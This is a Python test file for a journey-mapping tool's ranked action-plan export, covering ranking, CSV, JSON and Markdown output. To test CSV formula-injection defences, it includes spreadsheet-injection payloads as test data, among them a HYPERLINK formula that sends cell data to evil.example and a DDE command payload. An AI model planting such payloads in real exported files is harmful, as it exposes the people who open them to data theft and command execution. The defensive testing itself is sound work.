"""`journey plan`: the opportunities of several maps as one ranked backlog (§15). The ranking
formula by hand, golden output for the examples, a CSV that Python's csv module and LibreOffice
read with formula-like text kept inert and numbers as numbers, JSON a script opens tickets from."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

import journeymap
from conftest import EXAMPLES, ROOT, compile_snippet, require_executable
from golden import TESTDATA, assert_golden
from journeymap.analysis import plan

GOLDEN = TESTDATA / "plan"


def journey(*args: str, cwd: Path | None = None, stdin: bytes | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "journeymap.cli", *args], cwd=cwd, input=stdin, capture_output=True)


RANKED = """
source int "Interviews" { kind interview }
stage s "Buy" {
  touchpoint basket "Basket" {
    emotion -1
    pain slow "Slow search" { severity high }
    opportunity cheap "Synonyms for brands" { impact medium; effort low; evidence int }
    opportunity guess "Voice search" { impact high; effort high; confidence assumed }
  }
  touchpoint checkout "Checkout" {
    emotion -2; moment first; confidence assumed
    pain fee "Fee at the last step" { severity medium }
    opportunity fee_upfront "Fee on the basket" { impact high; effort low; addresses fee }
    opportunity done_one "Free first delivery" { impact high; effort low; status done }
  }
  touchpoint paid "Paid" { outcome success }
}
basket -> checkout { rate 50% }
checkout -> paid
"""


def test_the_ranking_is_impact_over_effort_weighted_by_the_hotspot_and_lowered_for_assumptions():
    items = journeymap.action_plan([("m.journey", compile_snippet(RANKED).journey)])
    # hotspots: basket (high 3 + emotion 1) x reach 1 = 4; checkout (medium 2 + 2) x reach 0.5 x 1.5 = 3
    by_id = {item.opportunity.id: item for item in items}
    assert by_id["cheap"].hotspot == 4 and by_id["fee_upfront"].hotspot == 3
    assert by_id["cheap"].priority == 2 / 1 * (1 + 4)  # 10: medium over low, cited: not assumed
    assert by_id["guess"].priority == 3 / 3 * (1 + 4) * 0.5  # 2.5: its own confidence is assumed
    # no confidence and no evidence of its own: the touchpoint's (assumed) counts
    assert by_id["fee_upfront"].assumed and by_id["fee_upfront"].priority == 3 / 1 * (1 + 3) * 0.5
    assert [(i.rank, i.opportunity.id) for i in items] == [(1, "cheap"), (2, "fee_upfront"), (3, "guess"),
                                                           (None, "done_one")]  # done: after, unranked
    assert [p.id for p in by_id["fee_upfront"].addressed()] == ["fee"]
    assert plan.priority(by_id["cheap"].opportunity, 0.0, False) == 2  # no hotspot: impact over effort


def test_ties_keep_the_order_of_the_files_and_of_the_map(tmp_path: Path):
    (tmp_path / "a.journey").write_text('stage s { touchpoint x { opportunity "A one"; opportunity "A two" } }\n')
    (tmp_path / "b.journey").write_text('stage s { touchpoint y { opportunity "B one" } }\n')
    one = journey("plan", "a.journey", "b.journey", "--format", "json", cwd=tmp_path)
    other = journey("plan", "b.journey", "a.journey", "--format", "json", cwd=tmp_path)
    titles = lambda done: [item["title"] for item in json.loads(done.stdout)["items"]]  # noqa: E731
    assert titles(one) == ["A one", "A two", "B one"] and titles(other) == ["B one", "A one", "A two"]
    assert journey("plan", "a.journey", "b.journey", cwd=tmp_path).stdout == journey(
        "plan", "a.journey", "b.journey", cwd=tmp_path).stdout


@pytest.mark.parametrize("output_format", ["md", "csv", "json"])
def test_golden_plan_of_the_examples(output_format: str):
    names = [str(path.relative_to(ROOT)) for path in EXAMPLES]
    done = journey("plan", *names, "--format", output_format, cwd=ROOT)
    assert done.returncode == 0, done.stderr
    assert_golden(done.stdout, GOLDEN / f"examples.{output_format}")  # bytes: the CSV's CRLF stays


def test_a_broken_map_is_left_out_and_makes_the_status_1(tmp_path: Path):
    (tmp_path / "good.journey").write_text('stage s { touchpoint x { opportunity "Works" } }\n')
    (tmp_path / "bad.journey").write_text('stage s { touchpoint x }\nx -> nowhere\n')
    done = journey("plan", "good.journey", "bad.journey", "--format", "json", cwd=tmp_path)
    assert done.returncode == 1
    assert [item["title"] for item in json.loads(done.stdout)["items"]] == ["Works"]
    assert "error[E011]" in done.stderr.decode() and "left out of the plan: 'bad.journey'" in done.stderr.decode()
    missing = journey("plan", "good.journey", "gone.journey", cwd=tmp_path)
    assert missing.returncode == 2 and b"Works" in missing.stdout


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"click")', "+1", "-2+3", "@SUM(A1)", "\\t=1+1",
            "\\n=1", "  =1+1", "\uff1d1+1", "=cmd|' /C calc'!A0"]


def formula_map() -> str:
    """A map whose every text the CSV shows starts like a formula."""
    lines = ['title "=1+1"', 'source s1 "@evidence" { kind survey }', 'stage st "-stage" {']
    for number, formula in enumerate(FORMULAS):
        text = formula.replace('"', '\\"')
        lines.append(f'  touchpoint t{number} "{text}" {{')
        lines.append(f'    pain p{number} "{text}"')
        lines.append(f'    opportunity o{number} "{text}" {{ owner "{text}"; addresses p{number}; evidence s1; '
                     f'kpi "{text}" "{text}"; ticket "https://x.example/{number}" }}')
        lines.append("  }")
    lines.append("}")
    return "\n".join(lines) + "\n"


def plan_csv() -> str:
    compilation = journeymap.compile_text(formula_map(), "=map.journey")
    assert compilation.journey is not None, compilation.diagnostics
    return journeymap.format_plan(journeymap.action_plan([("=map.journey", compilation.journey)]), "csv")


NUMERIC = ("rank", "priority", "hotspot", "line")


def test_the_csv_read_by_python_keeps_formulas_inert_and_numbers_numbers():
    text = plan_csv()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(FORMULAS) and list(rows[0]) == list(plan.CSV_COLUMNS)
    for row in rows:
        for column, cell in row.items():
            if column in NUMERIC:
                float(cell)  # a number, written as one
                assert re.fullmatch(r"\d+(\.\d+)?", cell), cell
            elif cell:
                assert cell[0] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20", (column, cell)
                assert cell.lstrip(" ")[0] not in "=+-@\uff1d", (column, cell)
    # nothing is lost: the apostrophe is all that is added
    shown = {row["opportunity"] for row in rows}
    assert "'" + FORMULAS[0] in shown and "'+1" in shown and "'\t=1+1" in shown and "'  =1+1" in shown
    assert rows[0]["map"] == "'=1+1" and rows[0]["stage"] == "'-stage" and rows[0]["evidence"] == "'@evidence"
    assert rows[0]["file"] == "'=map.journey"


def test_safe_cell_is_the_rule_for_every_kind_of_value():
    assert plan.safe_cell(3) == 3 and plan.safe_cell(2.5) == 2.5 and plan.safe_cell(None) == ""
    assert plan.safe_cell(True) == "yes" and plan.safe_cell("plain") == "plain" and plan.safe_cell("a=b") == "a=b"
    for start in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20":
        assert plan.safe_cell(f"{start}x") == f"'{start}x"
        assert plan.safe_cell(f"   {start}x") == f"'   {start}x"


LIBREOFFICE_CSV = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"  # the last: evaluate formulas


def libreoffice_cells(csv_text: str, tmp_path: Path) -> list[list[tuple[str, str | None]]]:
    """The CSV as LibreOffice Calc reads it with formula evaluation on: per row, each cell's
    value type and formula (None when it is no formula)."""
    soffice = require_executable("soffice")
    tmp_path.mkdir(exist_ok=True)
    path = tmp_path / "plan.csv"
    path.write_text(csv_text, encoding="utf-8", newline="")
    done = subprocess.run([soffice, "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}",
                           f"--infilter={LIBREOFFICE_CSV}", "--convert-to", "fods", "--outdir", str(tmp_path), str(path)],
                          capture_output=True, timeout=180)
    assert done.returncode == 0, done.stderr
    import defusedxml.ElementTree as SafeET

    table = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
    office = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
    root = SafeET.parse(str(tmp_path / "plan.fods")).getroot()
    rows = []
    for row in root.iter(f"{table}table-row"):
        cells = []
        for cell in row.iter(f"{table}table-cell"):
            repeat = int(cell.get(f"{table}number-columns-repeated", "1"))
            cells += [(cell.get(f"{office}value-type"), cell.get(f"{table}formula"))] * min(repeat, 50)
        rows.append(cells)
    return [row for row in rows if any(kind for kind, _ in row)]


def test_libreoffice_opens_the_csv_with_no_formula_and_numbers_as_numbers(tmp_path: Path):
    rows = libreoffice_cells(plan_csv(), tmp_path)
    assert len(rows) == 1 + len(FORMULAS)
    numeric = [plan.CSV_COLUMNS.index(column) for column in NUMERIC]
    for row in rows[1:]:
        assert all(formula is None for _, formula in row), row
        assert [row[i][0] for i in numeric] == ["float"] * len(numeric)
    # the control: the same CSV without the apostrophes does hold formulas for LibreOffice
    unsafe = plan_csv().replace(",'", ",").replace('"\'', '"').replace("\n'", "\n")
    assert any(formula for row in libreoffice_cells(unsafe, tmp_path / "unsafe") for _, formula in row)


def test_json_items_carry_what_a_ticket_needs():
    source = RANKED.replace('source int "Interviews" { kind interview }',
                            'source int "Interviews *with* [12]" { kind interview; date 2026-10-02; n 12; '
                            'link "https://wiki.example/int" }')
    items = json.loads(journeymap.format_plan(journeymap.action_plan([("m.journey", compile_snippet(source).journey)]),
                                              "json"))["items"]
    first = items[0]
    assert first["title"] == "Synonyms for brands" and first["rank"] == 1 and first["priority"] == 10
    assert first["labels"] == ["journey-map", "status:idea", "impact:medium", "effort:low"]
    body = first["body"]
    assert body.startswith("**Touchpoint:** Basket (stage Buy)")
    assert "- Slow search (high)" in body
    assert r"- Interviews \*with\* \[12\] (interview, 2026-10-02, n = 12): <https://wiki.example/int>" in body
    assert first["opportunity"]["evidence"][0]["id"] == "int" and first["touchpoint"]["pains"][0]["severity"] == "high"
    assert (first["file"], first["line"]) == ("map.journey", 7)
    fee = next(item for item in items if item["opportunity"]["id"] == "fee_upfront")
    assert "assumed" in fee["labels"] and "**Answers:** Fee at the last step" in fee["body"]
    assert "**Evidence:** none yet (assumed)" in fee["body"]


def test_markdown_escapes_user_text_in_its_table():
    source = RANKED.replace('"Synonyms for brands"', '"Pipes | and *stars* <b>"')
    text = journeymap.format_plan(journeymap.action_plan([("m.journey", compile_snippet(source).journey)]), "md")
    row = next(line for line in text.splitlines() if "Pipes" in line)
    assert r"Pipes \| and \*stars\* \<b\>" in row and row.count(" | ") == 9
    assert text.startswith("# Action plan\n\n4 opportunities from 1 map, 3 open.")


def test_a_folder_is_every_map_under_it(tmp_path: Path):
    """`journey plan docs/maps/` plans every .journey file under the folder, in path order, as
    if each were named; a folder without maps is exit 2 and prints no plan."""
    (tmp_path / "maps" / "team").mkdir(parents=True)
    for name in ("b2b-saas-buying", "ecommerce-first-order"):
        (tmp_path / "maps" / f"{name}.journey").write_bytes((ROOT / "examples" / f"{name}.journey").read_bytes())
    (tmp_path / "maps" / "team" / "churn.journey").write_bytes((ROOT / "examples" / "subscription-churn.journey").read_bytes())
    folder = journey("plan", "maps", "--format", "json", cwd=tmp_path)
    named = journey("plan", "maps/b2b-saas-buying.journey", "maps/ecommerce-first-order.journey",
                    "maps/team/churn.journey", "--format", "json", cwd=tmp_path)
    assert folder.returncode == named.returncode == 0, folder.stderr
    assert folder.stdout == named.stdout and json.loads(folder.stdout)["items"]
    (tmp_path / "none").mkdir()
    empty = journey("plan", "none", cwd=tmp_path)
    assert empty.returncode == 2 and empty.stdout == b"" and b"no .journey files in 'none'" in empty.stderr
